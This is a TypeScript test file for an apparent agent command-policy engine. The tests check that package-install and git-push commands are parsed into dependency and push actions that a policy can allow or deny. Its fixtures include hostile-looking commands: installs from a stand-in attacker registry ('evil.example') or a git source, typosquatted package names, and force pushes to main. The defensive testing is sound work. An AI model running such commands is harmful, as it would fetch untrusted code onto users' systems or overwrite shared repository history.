import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileToPolicy } from './engine.ts';
import { intentsOf } from './intents.ts';
import { parsePolicyFile } from './policy-file.ts';

test('install commands become dependency actions, one per package, versions stripped', () => {
  const cases: Array<[string, Array<[string, string]>]> = [
    ['npm install left-pad', [['npm', 'left-pad']]],
    [
      'npm i -D @types/node@24 lodash@^4',
      [
        ['npm', '@types/node'],
        ['npm', 'lodash'],
      ],
    ],
    ['npm install', []],
    ['npm test', []],
    ['yarn add react', [['npm', 'react']]],
    ['pnpm add -w zod', [['npm', 'zod']]],
    [
      'pip install requests==2.31 "flask[async]"',
      [
        ['pypi', 'requests'],
        ['pypi', '"flask'],
      ],
    ],
    ['pip install -r requirements.txt', []],
    ['cargo add serde@1', [['crates', 'serde']]],
    ['go get github.com/x/y@v1.2.0', [['go', 'github.com/x/y']]],
    ['/usr/bin/npm install evil', [['npm', 'evil']]],
  ];
  for (const [command, expected] of cases) {
    assert.deepEqual(
      intentsOf(command).map((a) => (a.kind === 'dependency.add' ? [a.ecosystem, a.name] : a.kind)),
      expected,
      command,
    );
  }
});

test('option values are not packages; aliases and sources name what is really installed', () => {
  const cases: Array<[string, Array<[string, string]>]> = [
    ['npm install -w app lodash', [['npm', 'lodash']]],
    ['pnpm add lodash --filter web', [['npm', 'lodash']]],
    ['npm install lodash@npm:lodahs@4.17.21', [['npm', 'lodahs']]],
    ['npm install lodash@github:evil/lodash', [['npm', 'github:evil/lodash']]],
    [
      'npm install --registry https://evil.example lodash',
      [
        ['npm', 'lodash'],
        ['npm', '--registry=https://evil.example'],
      ],
    ],
    ['uv pip install reqeusts', [['pypi', 'reqeusts']]],
    ['python3 -m pip install --target vendor numpy', [['pypi', 'numpy']]],
    [
      'pip install -i https://evil.example/simple requests',
      [
        ['pypi', 'requests'],
        ['pypi', '-i=https://evil.example/simple'],
      ],
    ],
    ['pip install git+https://github.com/evil/pkg', [['pypi', 'git+https://github.com/evil/pkg']]],
    ['cargo add serde --features derive', [['crates', 'serde']]],
    [
      'cargo add tokio --registry corp',
      [
        ['crates', 'tokio'],
        ['crates', '--registry=corp'],
      ],
    ],
    ['cargo install ripgrep', [['crates', 'ripgrep']]],
  ];
  for (const [command, expected] of cases) {
    assert.deepEqual(
      intentsOf(command).map((a) => (a.kind === 'dependency.add' ? [a.ecosystem, a.name] : a.kind)),
      expected,
      command,
    );
  }
});

test('git push becomes a push action per destination branch, force spotted however spelled', () => {
  const cases: Array<[string, Array<[string, boolean]>]> = [
    ['git push origin warden/fix', [['warden/fix', false]]],
    ['git push origin HEAD:refs/heads/main', [['main', false]]],
    ['git push -f origin main', [['main', true]]],
    ['git push origin +main', [['main', true]]],
    [
      'git -C repo push --force-with-lease origin a b',
      [
        ['a', true],
        ['b', true],
      ],
    ],
    ['git push', [['HEAD', false]]],
    ['git push -uf origin x', [['x', true]]],
    ['git push -qf', [['HEAD', true]]],
    ['git push -u origin fix', [['fix', false]]],
    ['git push --all origin', [['*all*', false]]],
    ['git push --tags', [['*all*', false]]],
    ['git push --mirror origin', [['*all*', true]]],
    ['git push -f --all', [['*all*', true]]],
    ['git -c remote.origin.mirror=true push origin main', [['*all*', false]]],
    ['git -c push.default=matching push', [['*all*', false]]],
    ['git -c user.name=x push origin main', [['main', false]]],
    ['git status', []],
  ];
  for (const [command, expected] of cases) {
    assert.deepEqual(
      intentsOf(command).map((a) => (a.kind === 'git.push' ? [a.branch, a.force] : a.kind)),
      expected,
      command,
    );
  }
});

test('a push of every branch is granted only by push: ["*"]', async () => {
  const decide = async (push: string) => {
    const parsed = parsePolicyFile(`version: 1\ngit:\n  push: [${push}]\n`, 'test.yaml');
    if (!parsed.ok) throw new Error('bad policy');
    const policy = await compileToPolicy(parsed.file, 'test');
    const [action] = intentsOf('git push --all origin');
    assert.ok(action);
    return (await policy.decide(action)).decision;
  };
  assert.equal(await decide('"warden/*"'), 'deny');
  assert.equal(await decide('"*"'), 'allow');
});
